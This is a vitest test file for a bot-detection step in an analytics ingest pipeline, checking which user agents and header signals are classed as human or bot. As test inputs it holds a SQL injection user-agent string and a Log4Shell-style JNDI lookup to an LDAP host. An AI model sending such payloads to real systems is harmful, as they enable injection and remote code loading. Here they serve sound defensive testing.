import { describe, expect, it } from 'vitest';
import { Drop } from '../drop';
import { CHROME_UA, IPHONE_UA, testContext, testEvent } from '../../../test/helpers/ingest';
import type { RequestContext } from '../types';
import { botStep } from './bot';

function verdict(over: Partial<RequestContext>, evOver: Parameters<typeof testEvent>[0] = {}): string {
  const ctx = testContext(over);
  const r = botStep.run(testEvent(evOver, ctx), ctx);
  return r instanceof Drop ? r.reason : 'human';
}
const signals = (s: Partial<RequestContext['signals']>) => ({
  signals: { dnt: false, gpc: false, hasAcceptLanguage: true, hasAccept: true, webdriver: false, ...s },
});

describe('bot step', () => {
  it('lets ordinary browsers through', () => {
    expect(verdict({ userAgent: CHROME_UA })).toBe('human');
    expect(verdict({ userAgent: IPHONE_UA })).toBe('human');
  });

  it('drops crawlers and scripts known to isbot', () => {
    expect(verdict({ userAgent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)' })).toBe('bot');
    expect(verdict({ userAgent: 'curl/8.4.0' })).toBe('bot');
    expect(verdict({ userAgent: 'python-requests/2.31.0' })).toBe('bot');
  });

  it('drops headless browsers and automation', () => {
    expect(verdict({ userAgent: CHROME_UA.replace('Chrome/', 'HeadlessChrome/') })).toBe('bot');
    expect(
      verdict({ userAgent: 'Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) PhantomJS/2.1.1 Safari/538.1' }),
    ).toBe('bot');
    expect(verdict({ userAgent: CHROME_UA, ...signals({ webdriver: true }) })).toBe('bot');
  });

  it('drops non-browser clients and probes posing as the tracker', () => {
    expect(verdict({ userAgent: 'Go-http-client/1.1' })).toBe('bot');
    expect(verdict({ userAgent: 'Mozilla/5.0' })).toBe('bot');
    expect(verdict({ userAgent: "Mozilla/5.0' UNION SELECT NULL,NULL--" })).toBe('bot');
  });

  it('drops browser requests missing headers every browser sends', () => {
    expect(verdict({ userAgent: '' })).toBe('bot');
    expect(verdict({ userAgent: CHROME_UA, ...signals({ hasAcceptLanguage: false }) })).toBe('bot');
  });

  it('server-side: judges the visitor user agent passed on, not the backend calling', () => {
    const server = { trust: 'server' as const, userAgent: 'python-requests/2.31.0', ...signals({ hasAcceptLanguage: false }) };
    expect(verdict(server)).toBe('human');
    expect(verdict(server, { client_user_agent: CHROME_UA })).toBe('human');
    expect(verdict(server, { client_user_agent: 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)' })).toBe('bot');
    // A native app's user agent passed on by its backend is no browser's, and no bot either; a probe is.
    expect(verdict(server, { client_user_agent: 'MyApp/1.2 CFNetwork/1490 Darwin/23.2.0' })).toBe('human');
    expect(verdict(server, { client_user_agent: '\u0024{jndi:ldap://203.0.113.5/a}' })).toBe('bot');
  });
});
